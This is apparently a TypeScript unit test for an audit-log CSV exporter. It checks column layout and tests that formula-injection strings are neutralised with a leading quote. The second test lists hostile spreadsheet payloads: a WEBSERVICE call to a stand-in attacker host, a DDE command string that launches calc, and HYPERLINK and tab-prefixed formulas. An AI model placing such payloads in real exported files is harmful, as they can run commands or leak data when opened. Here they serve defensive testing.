import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { AuditEntry } from '#common/audit.ts';
import { auditCsv } from './audit-csv.ts';

const admin = { id: '00000000-0000-4000-8000-000000000001', name: 'Avery Admin', phone: '+12125550101', isAdmin: true, isManager: false };
const member = { id: '00000000-0000-4000-8000-000000000003', name: null, phone: '+12125550103', isAdmin: false, isManager: false };

const entry = (over: Partial<AuditEntry>): AuditEntry => ({
  id: '00000000-0000-4000-8000-00000000000a',
  createdAt: '2026-03-12T08:00:00.000Z',
  action: 'user.suspended',
  actorId: admin.id,
  impersonatorId: null,
  actor: admin,
  impersonator: null,
  targetType: 'user',
  targetId: member.id,
  data: { reason: 'said "hi", then left' },
  ip: '203.0.113.9',
  ...over,
});

describe('auditCsv', () => {
  it('writes one row per entry with names, ids and the data as JSON', () => {
    const csv = auditCsv([
      entry({}),
      entry({ action: 'card.updated', actorId: member.id, actor: member, impersonatorId: admin.id, impersonator: admin, data: null }),
    ]);
    const rows = Papa.parse<string[]>(csv).data;
    expect(rows[0]).toEqual(['time', 'action', 'actor', 'actor_id', 'impersonator', 'impersonator_id', 'target_type', 'target_id', 'ip', 'data']);
    expect(rows[1]).toEqual([
      '2026-03-12T08:00:00.000Z',
      'user.suspended',
      'Avery Admin',
      admin.id,
      '',
      '',
      'user',
      member.id,
      '203.0.113.9',
      '{"reason":"said \\"hi\\", then left"}',
    ]);
    // A person without a name is shown by phone; the impersonating admin is named.
    expect(rows[2].slice(2, 6)).toEqual(['+12125550103', member.id, 'Avery Admin', admin.id]);
  });

  it('neutralises spreadsheet formulas, including + and - followed by a digit', () => {
    const attacks = ['=HYPERLINK("x")', '-2+3+WEBSERVICE("http://evil.example/")', "+1+cmd|' /C calc'!A0", '@SUM(A1)', '\t=1', '\r=1'];
    const csv = auditCsv(attacks.map((a) => entry({ targetId: a, targetType: a })));
    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.slice(1);
    expect(rows.map((r) => r[7])).toEqual(attacks.map((a) => `'${a}`));
    expect(rows.map((r) => r[6])).toEqual(attacks.map((a) => `'${a}`));
    // A phone number stays as it is.
    expect(Papa.parse<string[]>(auditCsv([entry({ actor: member })])).data[1][2]).toBe('+12125550103');
  });
});
